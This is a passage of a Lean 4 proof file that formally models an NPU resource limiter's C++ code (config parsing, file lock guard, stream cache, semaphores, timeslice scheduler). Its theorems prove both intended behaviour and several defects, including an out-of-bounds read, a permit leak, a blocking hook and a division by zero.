        if digitsValue c < 2 ^ 64 then .returned RET_FAIL else .thrown .out_of_range) := by
  have hUINT : UINT_MAX = 4294967295 := rfl
  have hULONG : ULONG_MODULUS = 2 ^ 64 := rfl
  have hMEGA : MEGABYTE = 1048576 := rfl
  have hPCT : PERCENT_MAX = 100 := rfl
  have hno : digitsValue m * 1048576 < 2 ^ 64 := by omega
  have h1 : ParseLineByConfigName ("UsedMem".toList ++ ':' :: m) "UsedMem".toList UINT_MAX =
      .returned (some (digitsValue m)) := by
    rw [ParseLineByConfigName_digits _ m _ hm hmd]
    have : ¬ digitsValue m ≥ ULONG_MODULUS := by omega
    have h2 : ¬ digitsValue m > UINT_MAX := by omega
    simp [this, h2]
  have hmod : digitsValue m * MEGABYTE % ULONG_MODULUS = digitsValue m * 1048576 := by
    rw [hMEGA, hULONG]
    exact Nat.mod_eq_of_lt hno
  refine ⟨hno, ?_, ?_⟩
  · intro hC
    have h2 : ParseLineByConfigName ("UsedCores".toList ++ ':' :: c) "UsedCores".toList
        PERCENT_MAX = .returned (some (digitsValue c)) := by
      rw [ParseLineByConfigName_digits _ c _ hc hcd]
      have : ¬ digitsValue c ≥ ULONG_MODULUS := by omega
      have h3 : ¬ digitsValue c > PERCENT_MAX := by omega
      simp [this, h3]
    have hcmod : digitsValue c % 2 ^ 32 = digitsValue c := Nat.mod_eq_of_lt (by omega)
    simp only [LoadVxpuConfig, hlines, h1, h2, hmod, hcmod]
  · intro hC
    have h2 : ParseLineByConfigName ("UsedCores".toList ++ ':' :: c) "UsedCores".toList
        PERCENT_MAX =
        if digitsValue c ≥ ULONG_MODULUS then .thrown .out_of_range else .returned none := by
      rw [ParseLineByConfigName_digits _ c _ hc hcd]
      have h3 : digitsValue c > PERCENT_MAX := by omega
      simp [h3]
    by_cases hbig : digitsValue c < 2 ^ 64
    · have : ¬ digitsValue c ≥ ULONG_MODULUS := by omega
      simp only [LoadVxpuConfig, hlines, h1, h2, this, if_false, hbig, if_true]
    · have : digitsValue c ≥ ULONG_MODULUS := by omega
      simp only [LoadVxpuConfig, hlines, h1, h2, this, if_true, hbig, if_false]

/-- Claim C20 at the file `UsedMem:1024`, `UsedCores:50`: the quota is 1 GiB and
the compute share 50. -/
theorem LoadVxpuConfig_well_formed_witness :
    getlines "UsedMem:1024\nUsedCores:50\n".toList =
      [("UsedMem".toList ++ ':' :: "1024".toList), ("UsedCores".toList ++ ':' :: "50".toList)] ∧
    digitsValue "1024".toList = 1024 ∧ digitsValue "50".toList = 50 ∧
    digitsValue "1024".toList * 1048576 < 2 ^ 64 ∧
    LoadVxpuConfig (some "UsedMem:1024\nUsedCores:50\n".toList) Config.initial =
      (.returned RET_SUCC,
        { memory := digitsValue "1024".toList * 1048576, limitMemory := true,
          computingPower := digitsValue "50".toList,
          limitComputingPower := decide (digitsValue "50".toList ≠ 0) }) :=
  have h := LoadVxpuConfig_well_formed "UsedMem:1024\nUsedCores:50\n".toList
    "1024".toList "50".toList [] Config.initial (by decide) (by decide) (by decide)
    (by decide) (by decide) (by decide)
  ⟨by decide, by decide, by decide, h.1, h.2.1 (by decide)⟩

/-- A compute share of 101 makes `LoadVxpuConfig` return `RET_FAIL`; the memory quota of
the first line has been stored by then. -/
theorem LoadVxpuConfig_rejects_101 :
    LoadVxpuConfig (some "UsedMem:1024\nUsedCores:101\n".toList) Config.initial =
      (.returned RET_FAIL,
        { memory := 1073741824, limitMemory := true, computingPower := 0,
          limitComputingPower := false }) := by
  decide

end ResourceConfig

/-! ## The lock of the memory guard -/

namespace MemoryLimiter

/-- The destructor of a moved-from `FileLock` makes no system call. -/
theorem FileLock_moveFrom_destroy (l : FileLock) : l.moveFrom.2.destroy = [] := by
  simp [FileLock.moveFrom, FileLock.destroy, FileLock.INVALID_FD]

/-- A lock built by the constructor is held only on a descriptor that `open`
returned: `held_` implies `fd_ != -1`. -/
theorem FileLock_create_held (openResult flockResult : Int)
    (h : (FileLock.create openResult flockResult).held = true) :
    openResult ≠ -1 ∧ flockResult = 0 ∧
      (FileLock.create openResult flockResult).fd = openResult := by
  unfold FileLock.create at h ⊢
  by_cases ho : openResult = -1
  · simp [ho] at h
  · by_cases hf : flockResult = 0
    · simp [ho, hf, FileLock.Aquire]
    · simp [ho, hf, FileLock.Aquire] at h

/-- Claim C23: the lock taken by `GuardedMemoryCheck` is owned by the returned guard
and released exactly once, when the guard is dropped. For every result of
`open` (`-1` or a descriptor) and of `flock`: the guard's lock has the
descriptor and the held flag of the lock that the constructor built; the
moved-from local is left with `fd = -1` and `held = false` and its destructor
makes no system call; `guard.Error()` is true exactly when the lock is not
held; and over the guard's life the lock file sees, when the lock is held,
one `flock(fd, LOCK_UN)` followed by one `close(fd)`, both made by the guard's
destructor, and no unlock at all when it is not held. -/
theorem GuardedMemoryCheck_lock_owned_by_guard (env : Env) (requested : Nat)
    (hopen : -1 ≤ env.lockOpen) :
    (GuardedMemoryCheck env requested).lock = FileLock.create env.lockOpen env.lockFlock ∧
    GuardedMemoryCheck.movedFrom env = { fd := -1, held := false } ∧
    (GuardedMemoryCheck.movedFrom env).destroy = [] ∧
    ((GuardedMemoryCheck env requested).Error = true ↔
      (GuardedMemoryCheck env requested).lock.held = false) ∧
    guardLifetime env requested = (GuardedMemoryCheck env requested).lock.destroy ∧
    guardLifetime env requested =
      (if (GuardedMemoryCheck env requested).lock.held = true then
        [SysCall.flock_un env.lockOpen, SysCall.close env.lockOpen]
      else if env.lockOpen = -1 then [] else [SysCall.close env.lockOpen]) := by
  have hlock : (GuardedMemoryCheck env requested).lock =
      FileLock.create env.lockOpen env.lockFlock := by
    simp [GuardedMemoryCheck, FileLock.moveFrom]
  have hmoved : (GuardedMemoryCheck.movedFrom env).destroy = [] :=
    FileLock_moveFrom_destroy _
  refine ⟨hlock, ?_, hmoved, ?_, ?_, ?_⟩
  · simp [GuardedMemoryCheck.movedFrom, FileLock.moveFrom, FileLock.INVALID_FD]
  · simp [Guard.Error, FileLock.Held]
  · simp [guardLifetime, hmoved]
  · simp only [guardLifetime, hmoved, List.nil_append, hlock]
    have hfd : (FileLock.create env.lockOpen env.lockFlock).fd = env.lockOpen := by
      unfold FileLock.create
      by_cases ho : env.lockOpen = -1
      · simp [ho]
      · by_cases hf : env.lockFlock = 0 <;> simp [ho, hf, FileLock.Aquire]
    have hheld0 : (FileLock.create env.lockOpen env.lockFlock).held = true →
        env.lockOpen ≠ -1 := fun h => (FileLock_create_held _ _ h).1
    generalize FileLock.create env.lockOpen env.lockFlock = L at hfd hheld0
    unfold FileLock.destroy
    rw [hfd]
    by_cases hheld : L.held = true
    · have hne := hheld0 hheld
      have hge : ¬ env.lockOpen < 0 := by omega
      simp [hheld, hge]
    · by_cases ho : env.lockOpen = -1
      · simp [hheld, ho]
      · have hge : ¬ env.lockOpen < 0 := by omega
        simp [hheld, ho, hge]

/-- Claim C23 at a concrete input: the lock file opens as descriptor 3 and `flock`
succeeds; the guard reports no error and its destructor unlocks and closes
descriptor 3, once each. -/
theorem GuardedMemoryCheck_lock_owned_by_guard_witness :
    (-1 : Int) ≤ (limitedEnv 1073741824 0).lockOpen ∧
    (GuardedMemoryCheck (limitedEnv 1073741824 0) 4096).Error = false ∧
    guardLifetime (limitedEnv 1073741824 0) 4096 = [SysCall.flock_un 3, SysCall.close 3] := by
  have h := GuardedMemoryCheck_lock_owned_by_guard (limitedEnv 1073741824 0) 4096 (by decide)
  refine ⟨by decide, by decide, ?_⟩
  rw [h.2.2.2.2.2]
  decide

end MemoryLimiter

/-! ## The stream cache -/

namespace StreamCache

/-- The loop of `Clear` stays inside the vector exactly when the cursor does
not exceed the number of entries. -/
theorem readEntries_isSome (streams : List (Nat × Nat)) (n : Nat) :
    (readEntries streams n).isSome = true ↔ n ≤ streams.length := by
  induction n with
  | zero => simp [readEntries]
  | succ n ih =>
    rw [readEntries]
    by_cases hn : n < streams.length
    · have hle : n ≤ streams.length := by omega
      obtain ⟨es, hes⟩ := Option.isSome_iff_exists.mp (ih.mpr hle)
      simp [hes, List.getElem?_eq_getElem hn]
      omega
    · have hnone : streams[n]? = none := List.getElem?_eq_none (by omega)
      have hfalse : ¬ n + 1 ≤ streams.length := by omega
      cases hr : readEntries streams n <;> simp [hnone, hfalse]

/-- The method `Clear` reads outside the vector exactly when the cursor exceeds the number
of entries. -/
theorem Clear_eq_none_iff (sc : StreamCache) :
    sc.Clear = none ↔ sc.streams.length < sc.current := by
  have h := readEntries_isSome sc.streams sc.current
  unfold Clear
  cases hr : readEntries sc.streams sc.current with
  | none =>
    rw [hr] at h
    simp at h
    simp
    omega
  | some es =>
    rw [hr] at h
    simp at h
    simp
    omega

/-- A push at a cursor that has reached `max_` returns false and stores
nothing, but still moves the cursor on. -/
theorem ConcurrentPush_beyond_capacity (sc : StreamCache) (ctx stream : Nat)
    (h : sc.max ≤ sc.current) :
    sc.ConcurrentPush ctx stream =
      some (false, { sc with current := (sc.current + 1) % MemoryLimiter.SIZE_MODULUS }) := by
  simp [ConcurrentPush, h]

/-- Claim C29, evaluated on the code: on a cache of capacity 2
(`SetSize(2)` on a new cache), three pushes return true, true, false and store
two entries, but leave the cursor at 3, above the capacity; `Clear` then runs
its loop up to the cursor and reads `streams_[2]`, outside the vector of two
entries. -/
theorem Clear_reads_past_capacity :
    (initial.SetSize 2).bind (pushAll [(1, 1), (2, 2), (3, 3)]) =
      some ([true, true, false], { max := 2, current := 3, streams := [(1, 1), (2, 2)] }) ∧
    Clear { max := 2, current := 3, streams := [(1, 1), (2, 2)] } = none := by
  decide

end StreamCache

/-! ## The guards of the compute limiter -/

namespace NpuCoreLimiter

open NpuTimesliceScheduler

/-- A `RequestGuard` takes its permit from `semaphore_` and, when dropped, gives
it back to `semaphore_`; `semaphoreBack_` is not touched. -/
theorem RequestGuard_returns_permit (l l1 : NpuCoreLimiter) (ctx stream : Nat)
    (h : RequestGuard.create l ctx stream = some l1) :
    l1.semaphore.count = l.semaphore.count - 1 ∧
    (RequestGuard.destroy l1).semaphore = l.semaphore ∧
    (RequestGuard.destroy l1).semaphoreBack = l.semaphoreBack := by
  unfold RequestGuard.create at h
  by_cases hc : l.semaphore.count ≥ 1
  · simp only [Sem.Aquire, hc, if_true] at h
    cases hp : l.streams.ConcurrentPush ctx stream with
    | none => simp [hp] at h
    | some r =>
      simp only [hp, Option.map_some', Option.some.injEq] at h
      subst h
      refine ⟨rfl, ?_, rfl⟩
      simp [RequestGuard.destroy, Sem.Release]
  · simp [Sem.Aquire, hc] at h

/-- With no permit on `semaphore_` the constructor of a `RequestGuard` never
returns, whatever the configuration is. -/
theorem RequestGuard_blocks (l : NpuCoreLimiter) (ctx stream : Nat)
    (h : l.semaphore.count < 1) : RequestGuard.create l ctx stream = none := by
  have hc : ¬ l.semaphore.count ≥ 1 := by omega
  simp [RequestGuard.create, Sem.Aquire, hc]

/-- Claim C21, evaluated on the code: on a limiter with both
semaphores at 0 the scheduler opens a `ReleaseGuard` with `opCount = 10`. The ten
permits go to `semaphoreBack_`, none to `semaphore_`, so no `RequestGuard` can be
admitted (its constructor never returns), and when the `ReleaseGuard` is
destroyed (with `opCount_ = 0`) `semaphoreBack_` holds 10 permits instead of the
0 it held before. Even where a `RequestGuard` is admitted (one permit put on
`semaphore_` beforehand) it gives its permit back to `semaphore_`, not to
`semaphoreBack_`, and the pairing ends with the counts 0 and 9 instead of 1
and 0. -/
theorem pairing_leaves_permits_behind :
    (freshLimiter.semaphore.count, freshLimiter.semaphoreBack.count) = (0, 0) ∧
    RequestGuard.create (freshLimiter.ReleaseOps 10) 1 1 = none ∧
    (pairing freshLimiter 10 []).map
      (fun r => (r.1, r.2.2.semaphore.count, r.2.2.semaphoreBack.count)) = some (0, 0, 10) ∧
    (runGuards [GuardEvent.request 1 1, GuardEvent.drop]
        (ReleaseOps { freshLimiter with semaphore := { count := 1 } } 10)).map
      (fun l => (l.semaphore.count, l.semaphoreBack.count)) = some (1, 10) ∧
    (pairing { freshLimiter with semaphore := { count := 1 } } 10
        [GuardEvent.request 1 1, GuardEvent.drop]).map
      (fun r => (r.1, r.2.2.semaphore.count, r.2.2.semaphoreBack.count)) = some (1, 0, 9) := by
  decide

/-- With compute limiting disabled `ComputingPowerWatcherInit` returns `RET_SUCC` and
starts no thread. -/
theorem ComputingPowerWatcherInit_disabled (l : NpuCoreLimiter) (threadCreated : Bool)
    (h : l.config.limitComputingPower = false) :
    ComputingPowerWatcherInit l threadCreated = (RET_SUCC, l) := by
  simp [ComputingPowerWatcherInit, h]

/-- Claim C22, evaluated on the code: without a config file, or
with `UsedCores:0`, `LimitComputingPower()` is false. On the limiter of such a
process `ComputingPowerWatcherInit` starts no thread, as the claim says, but
the guard of a launch hook is not a no-op: `ComputingPowerLimiter` does not
read the configuration, the constructor of its `RequestGuard` waits for a
permit on `semaphore_`, which holds none, and the hook `rtKernelLaunch` never
returns (the original is never called). -/
theorem launch_blocks_when_limiting_disabled :
    (ResourceConfig.Initialize false none ResourceConfig.Config.initial).2.limitComputingPower
      = false ∧
    (ResourceConfig.Initialize true (some "UsedMem:1024\nUsedCores:0\n".toList)
      ResourceConfig.Config.initial).2.limitComputingPower = false ∧
    hostLimiter.config.limitComputingPower = false ∧
    ComputingPowerWatcherInit hostLimiter true = (RET_SUCC, hostLimiter) ∧
    hostLimiter.watcher = false ∧
    hostLimiter.semaphore.Aquire 1 = none ∧
    hostLimiter.ComputingPowerLimiter 1 1 = none ∧
    Hooks.rtKernelLaunch hostLimiter 1 1 (fun (calls : Nat) => ((), calls + 1)) 0 = none ∧
    Hooks.rtKernelLaunch
      (initial (ResourceConfig.Initialize true (some "UsedMem:1024\nUsedCores:0\n".toList)
        ResourceConfig.Config.initial).2 10)
      1 1 (fun (calls : Nat) => ((), calls + 1)) 0 = none := by
  decide

end NpuCoreLimiter

/-! ## The slice loop -/

namespace NpuTimesliceScheduler

/-- Claim C24, evaluated on the code: node 0 runs `SchedulerThread`
on `holderInput` with a quota of 50 percent; the flag `terminating` reads false
twice and true from then on. In the one iteration of the inner loop
`CheckCurrent` returns false; the loop then ends on its condition and the
statements that follow it run a slice all the same: `ExecuteTimeslice` opens a
`ReleaseGuard` (ten permits are released), `ExecuteIdleTime` adds 50 to
`used_units`, and `ReleaseCurrent` is called. On `waitingInput`, where
`CheckCurrent` returns true in both iterations of the inner loop, no slice is
run inside the loop either: it comes only once the loop has ended. -/
theorem SchedulerThread_runs_slice_after_false :
    ((UpdateTimestamp 0 (sliceClock 1 0) holderInput).bind (fun u => CheckCurrent 0 u.2)).map
      Prod.fst = some false ∧
    (SchedulerThread halfProc (sliceClock 1) (stopAfter 2) 5 (threadOn holderInput)).map
      (fun t => (t.events, t.ctx.usedUnits, t.limiter.semaphoreBack.count)) =
      some ([Event.checkCurrent false, Event.executeTimeslice 5000000000 5060000000,
             Event.executeIdleTime none, Event.releaseCurrent], 50, 10) ∧
    (SchedulerThread halfProc (sliceClock 2) (stopAfter 3) 5 (threadOn waitingInput)).map
      (fun t => (t.events, t.ctx.usedUnits, t.limiter.semaphoreBack.count)) =
      some ([Event.checkCurrent true, Event.checkCurrent true,
             Event.executeTimeslice 5000000000 5060000000,
             Event.executeIdleTime none, Event.releaseCurrent], 50, 10) := by
  decide

/-! ### `ExecuteIdleTime` -/

/-- The first call of `ExecuteIdleTime` sets the mark and does not sleep. -/
theorem ExecuteIdleTime_first (q : Nat) (f : SliceFields) (ctx : Context)
    (h : f.lastUsedUnitsValid = false) :
    ExecuteIdleTime q f ctx =
      some (none,
        { f with lastUsedUnits := (ctx.usedUnits + q) % 2 ^ 32, lastUsedUnitsValid := true },
        { ctx with usedUnits := (ctx.usedUnits + q) % 2 ^ 32 }) := by
  simp [ExecuteIdleTime, h, Hooks.UINT_MODULUS]

/-- A later call that finds at least 100 units used since the mark returns
without sleeping and without moving the mark. -/
theorem ExecuteIdleTime_saturated (q : Nat) (f : SliceFields) (ctx : Context)
    (h : f.lastUsedUnitsValid = true)
    (hp : 100 ≤ ((ctx.usedUnits + q) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32) :
    ExecuteIdleTime q f ctx =
      some (none, f, { ctx with usedUnits := (ctx.usedUnits + q) % 2 ^ 32 }) := by
  have hp1 : 100 ≤ ((ctx.usedUnits + q) % 4294967296 + 4294967296
      - f.lastUsedUnits % 4294967296) % 4294967296 := hp
  simp only [ExecuteIdleTime, h, Hooks.UINT_MODULUS, PERIOD_UNIT_NUMBER]
  simp [hp1]

/-- A later call that finds fewer than 100 units used since the mark, and at
least one, sleeps and moves the mark. -/
theorem ExecuteIdleTime_idle (q : Nat) (f : SliceFields) (ctx : Context)
    (h : f.lastUsedUnitsValid = true)
    (hp0 : 0 < ((ctx.usedUnits + q) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32)
    (hp : ((ctx.usedUnits + q) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32 < 100) :
    ExecuteIdleTime q f ctx =
      some (some (Int.tdiv
          (ctx.timeUnit *
            ((100 - ((ctx.usedUnits + q) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32
              : Nat) : Int) * (q : Int))
          ((((ctx.usedUnits + q) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32 : Nat)
            : Int)),
        { f with lastUsedUnits := (ctx.usedUnits + q) % 2 ^ 32 },
        { ctx with usedUnits := (ctx.usedUnits + q) % 2 ^ 32 }) := by
  have hge : ¬ 100 ≤ ((ctx.usedUnits + q) % 4294967296 + 4294967296
      - f.lastUsedUnits % 4294967296) % 4294967296 := by
    intro hc
    exact absurd hp (Nat.not_lt.mpr hc)
  have hne : ((ctx.usedUnits + q) % 4294967296 + 4294967296
      - f.lastUsedUnits % 4294967296) % 4294967296 ≠ 0 := Nat.pos_iff_ne_zero.mp hp0
  simp only [ExecuteIdleTime, h, Hooks.UINT_MODULUS, PERIOD_UNIT_NUMBER, TimeUnit]
  simp [hge, hne]

end NpuTimesliceScheduler

namespace NpuTimesliceScheduler

/-- Without wrap-around the sum and the difference of `ExecuteIdleTime` are the
plain ones: `used_units + quota_percent`, and the units used since the mark. -/
theorem periodUsedUnits_of_no_wrap (usedUnits q lastUsedUnits : Nat)
    (hsum : usedUnits + q < 2 ^ 32) (hlast : lastUsedUnits ≤ usedUnits + q) :
    (usedUnits + q) % 2 ^ 32 = usedUnits + q ∧
    ((usedUnits + q) % 2 ^ 32 + 2 ^ 32 - lastUsedUnits % 2 ^ 32) % 2 ^ 32
      = usedUnits + q - lastUsedUnits := by
  norm_num at hsum ⊢
  omega

/-- Claim C25: `ExecuteIdleTime` adds `quota_percent` to `used_units` (an `unsigned int`
sum, so modulo `2 ^ 32`) and then: on its first call it stores the new
`used_units` in `last_used_units`, sets the validity flag and does not sleep;
on a later call, with `period_used = used_units - last_used_units` (an
`unsigned int` difference), it does not sleep when `period_used >= 100`, and
otherwise sleeps `time_unit * (100 - period_used) * quota_percent / period_used`
(the division of C++, which truncates) and stores `used_units` in
`last_used_units`. The division needs `period_used != 0`. -/
theorem ExecuteIdleTime_adds_quota_and_sleeps (q : Nat) (f : SliceFields) (ctx : Context)
    (used period : Nat)
    (hused : used = (ctx.usedUnits + q) % 2 ^ 32)
    (hperiod : period = (used + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32)
    (hdiv : f.lastUsedUnitsValid = true → period ≠ 0) :
    ExecuteIdleTime q f ctx =
      some (
        if f.lastUsedUnitsValid = false then
          (none, { f with lastUsedUnits := used, lastUsedUnitsValid := true },
            { ctx with usedUnits := used })
        else if 100 ≤ period then (none, f, { ctx with usedUnits := used })
        else
          (some (Int.tdiv (ctx.timeUnit * ((100 - period : Nat) : Int) * (q : Int))
              (period : Int)),
            { f with lastUsedUnits := used }, { ctx with usedUnits := used })) := by
  subst hused
  subst hperiod
  by_cases hv : f.lastUsedUnitsValid = false
  · rw [if_pos hv]
    exact ExecuteIdleTime_first q f ctx hv
  · have hv1 : f.lastUsedUnitsValid = true := by
      cases hf : f.lastUsedUnitsValid
      · exact absurd hf hv
      · rfl
    rw [if_neg hv]
    by_cases hp : 100 ≤
        ((ctx.usedUnits + q) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32
    · rw [if_pos hp]
      exact ExecuteIdleTime_saturated q f ctx hv1 hp
    · rw [if_neg hp]
      exact ExecuteIdleTime_idle q f ctx hv1 (Nat.pos_of_ne_zero (hdiv hv1)) (Nat.not_le.mp hp)

/-- Claim C25 at a concrete input: the mark is at 100 units, 110 are in use and the
node adds its 50: 60 units were used in the period, and the node sleeps
`1 ms * 40 * 50 / 60 = 33333333 ns`. -/
theorem ExecuteIdleTime_adds_quota_and_sleeps_witness :
    ExecuteIdleTime 50 (markedFields 100) (usedRegion 110) =
      some (some 33333333, markedFields 160, usedRegion 160) := by
  have h := ExecuteIdleTime_adds_quota_and_sleeps 50 (markedFields 100) (usedRegion 110)
    160 60 (by decide) (by decide) (by decide)
  rw [h]
  decide

/-- Claim C26, evaluated on the code: the mark is at 0, 60 units
are in use and the node adds its 50. The period has used 110 units, so the call
returns at `if (periodUsedUnits >= PERIOD_UNIT_NUMBER)` and `last_used_units`
stays 0 instead of becoming 110. The next call, in whose period only the 50
units of this node are used, measures 160 units from the old mark and skips
its sleep again. (A call that does sleep moves the mark: from 10 units in use
the mark goes to 60.) -/
theorem ExecuteIdleTime_saturated_keeps_mark :
    ExecuteIdleTime 50 (markedFields 0) (usedRegion 60) =
      some (none, markedFields 0, usedRegion 110) ∧
    ExecuteIdleTime 50 (markedFields 0) (usedRegion 110) =
      some (none, markedFields 0, usedRegion 160) ∧
    ExecuteIdleTime 50 (markedFields 0) (usedRegion 10) =
      some (some 33333333, markedFields 60, usedRegion 60) := by
  decide

/-- When the mark is the value of `used_units` at the end of the previous call
and `added + q < 2 ^ 32` units are added up to the test of this call, the
divisor is `added + q`, at least `q`. -/
theorem periodUsedUnits_of_fresh_mark (mark added q : Nat) (hmark : mark < 2 ^ 32)
    (hadd : added + q < 2 ^ 32) :
    (((mark + added) % 2 ^ 32 + q) % 2 ^ 32 + 2 ^ 32 - mark % 2 ^ 32) % 2 ^ 32 = added + q := by
  norm_num at hmark hadd ⊢
  omega

/-- Claim C30, evaluated on the code: a node with a quota of 50
percent makes three calls of `ExecuteIdleTime`; the siblings add nothing before
the first call and `2 ^ 31 - 50` units before each of the other two, so
`used_units` grows by `2 ^ 31` between two calls. The first call sets the mark
to 50. The second finds `2 ^ 31` units used, returns without moving the mark.
The third finds `used_units = 2 ^ 32 + 50`, which is 50 modulo `2 ^ 32`:
`period_used` is 0, less than 100, and the division by it is reached. -/
theorem ExecuteIdleTime_divides_by_zero :
    idlePeriods 50 [0, 2147483598] SliceFields.initial (usedRegion 0) =
      some ([none, none],
        { SliceFields.initial with lastUsedUnits := 50, lastUsedUnitsValid := true },
        usedRegion 2147483698) ∧
    ((usedRegion 2147483698).usedUnits + 2147483598 + 50) % 2 ^ 32 = 50 ∧
    idlePeriods 50 [0, 2147483598, 2147483598] SliceFields.initial (usedRegion 0) = none := by
  decide

end NpuTimesliceScheduler

namespace NpuTimesliceScheduler

/-! ### `ExecuteTimeslice` and the slice budget -/

/-- One unfolding of the loop of `ExecuteTimeslice`. -/
theorem executeLoop_succ (idx : Int) (clk : Nat → Int) (begin currentSlice : Int)
    (fuel k : Nat) (stop : Int) (ctx : Context) (l : NpuCoreLimiter) :
    executeLoop idx clk begin currentSlice (fuel + 1) k stop ctx l =
      if stop - begin < currentSlice then
        match NpuCoreLimiter.ReleaseGuard.destroy (l.ReleaseOps opBatchSize) with
        | none => none
        | some g =>
          match UpdateTimestamp idx (clk k) ctx with
          | none => none
          | some u => executeLoop idx clk begin currentSlice fuel (k + 1) u.1 u.2 g.2.2
      else some (stop, k, ctx, l) := rfl

/-- When the loop of `ExecuteTimeslice` returns, its test has failed on the
returned `end`; when the test fails at once, nothing is done. -/
theorem executeLoop_stop (idx : Int) (clk : Nat → Int) (begin currentSlice : Int) :
    ∀ (fuel k : Nat) (stop : Int) (ctx : Context) (l : NpuCoreLimiter)
      (r : Int × Nat × Context × NpuCoreLimiter),
      executeLoop idx clk begin currentSlice fuel k stop ctx l = some r →
      currentSlice ≤ r.1 - begin ∧
        (currentSlice ≤ stop - begin → r = (stop, k, ctx, l)) := by
  intro fuel
  induction fuel with
  | zero =>
    intro k stop ctx l r h
    simp [executeLoop] at h
  | succ fuel ih =>
    intro k stop ctx l r h
    rw [executeLoop_succ] at h
    by_cases ht : stop - begin < currentSlice
    · rw [if_pos ht] at h
      cases hg : NpuCoreLimiter.ReleaseGuard.destroy (l.ReleaseOps opBatchSize) with
      | none => rw [hg] at h; exact absurd h (by simp)
      | some g =>
        rw [hg] at h
        cases hu : UpdateTimestamp idx (clk k) ctx with
        | none => rw [hu] at h; exact absurd h (by simp)
        | some u =>
          rw [hu] at h
          refine ⟨(ih _ _ _ _ _ h).1, ?_⟩
          intro hle
          omega
    · rw [if_neg ht] at h
      have hr : r = (stop, k, ctx, l) := (Option.some.inj h).symm
      refine ⟨?_, fun _ => hr⟩
      rw [hr]
      show currentSlice ≤ stop - begin
      omega

/-- On a well-formed region a node with a slot index writes its heartbeat, and
the region stays well formed. -/
theorem UpdateTimestamp_defined (idx now : Int) (ctx : Context) (hwf : ctx.WellFormed)
    (hidx : 0 ≤ idx ∧ idx < MAX_NODE_NUMBER) :
    ∃ c, UpdateTimestamp idx now ctx = some (now, c) ∧ c.WellFormed := by
  have hlen : idx.toNat < ctx.nodes.length := by
    rw [hwf]
    have h20 : (MAX_NODE_NUMBER : Int) = 20 := by decide
    have hn20 : MAX_NODE_NUMBER = 20 := by decide
    omega
  refine ⟨{ ctx with nodes := ctx.nodes.set idx.toNat now }, ?_, ?_⟩
  · simp [UpdateTimestamp, Context.setNode, hidx.1, hidx.2, hlen]
  · simp only [Context.WellFormed, List.length_set]
    exact hwf

/-- A `ReleaseGuard` that is opened and destroyed with no other thread running
returns when `semaphoreBack_`, with the permits just released, covers the
permits found on `semaphore_` and the cursor of the stream cache is inside the
vector; it leaves no permit on `semaphore_` and the cursor at 0. -/
theorem ReleaseGuard_cycle (l : NpuCoreLimiter) (opCount : Int)
    (hsem : l.semaphore.count ≤ l.semaphoreBack.count + opCount)
    (hcur : l.streams.current ≤ l.streams.streams.length) :
    ∃ g, NpuCoreLimiter.ReleaseGuard.destroy (l.ReleaseOps opCount) = some g ∧
      g.2.2.semaphore.count = 0 ∧
      g.2.2.semaphoreBack.count = l.semaphoreBack.count + opCount - l.semaphore.count ∧
      g.2.2.streams.current = 0 ∧
      g.2.2.streams.streams = l.streams.streams := by
  have hclear : ∃ c, l.streams.Clear = some c ∧ c.2.current = 0 ∧
      c.2.streams = l.streams.streams := by
    cases hc : l.streams.Clear with
    | none =>
      have := (StreamCache.Clear_eq_none_iff l.streams).mp hc
      omega
    | some c =>
      refine ⟨c, rfl, ?_⟩
      unfold StreamCache.Clear at hc
      cases hr : StreamCache.readEntries l.streams.streams l.streams.current with
      | none => rw [hr] at hc; exact absurd hc (by simp)
      | some es =>
        rw [hr] at hc
        simp only [Option.map_some', Option.some.injEq] at hc
        subst hc
        exact ⟨rfl, rfl⟩
  obtain ⟨c, hc, hc0, hcs⟩ := hclear
  have hge : l.semaphoreBack.count + opCount ≥ l.semaphore.count := hsem
  refine ⟨(l.semaphore.count, c.1,
    { l with semaphore := { count := 0 },
             semaphoreBack := { count := l.semaphoreBack.count + opCount - l.semaphore.count },
             streams := c.2 }), ?_, rfl, rfl, hc0, hcs⟩
  simp [NpuCoreLimiter.ReleaseGuard.destroy, NpuCoreLimiter.ReleaseOps,
    NpuCoreLimiter.ReleaseGuard.create, Sem.Release, Sem.Aquire, Sem.AquireAll, hge, hc]

/-- The loop of `ExecuteTimeslice` returns once a reading of the clock has
reached `begin + currentSlice_`: if the reading number `k + n` does, `n + 2`
passes are enough. -/
theorem executeLoop_returns (idx : Int) (clk : Nat → Int) (begin currentSlice : Int)
    (hidx : 0 ≤ idx ∧ idx < MAX_NODE_NUMBER) :
    ∀ (n k : Nat) (stop : Int) (ctx : Context) (l : NpuCoreLimiter),
      ctx.WellFormed →
      l.semaphore.count ≤ l.semaphoreBack.count + opBatchSize →
      l.streams.current ≤ l.streams.streams.length →
      currentSlice ≤ clk (k + n) - begin →
      ∃ r, executeLoop idx clk begin currentSlice (n + 2) k stop ctx l = some r := by
  intro n
  induction n with
  | zero =>
    intro k stop ctx l hwf hsem hcur hclk
    rw [executeLoop_succ]
    by_cases ht : stop - begin < currentSlice
    · rw [if_pos ht]
      obtain ⟨g, hg, _, _, _, _⟩ := ReleaseGuard_cycle l opBatchSize hsem hcur
      obtain ⟨c, hu, _⟩ := UpdateTimestamp_defined idx (clk k) ctx hwf hidx
      rw [hg, hu]
      have hnot : ¬ (clk k - begin < currentSlice) := by
        have := hclk
        simp only [Nat.add_zero] at this
        omega
      refine ⟨(clk k, k + 1, c, g.2.2), ?_⟩
      show executeLoop idx clk begin currentSlice (0 + 1) (k + 1) (clk k) c g.2.2 = _
      rw [executeLoop_succ, if_neg hnot]
    · rw [if_neg ht]
      exact ⟨_, rfl⟩
  | succ n ih =>
    intro k stop ctx l hwf hsem hcur hclk
    rw [executeLoop_succ]
    by_cases ht : stop - begin < currentSlice
    · rw [if_pos ht]
      obtain ⟨g, hg, hg0, hgb, hgc, hgs⟩ := ReleaseGuard_cycle l opBatchSize hsem hcur
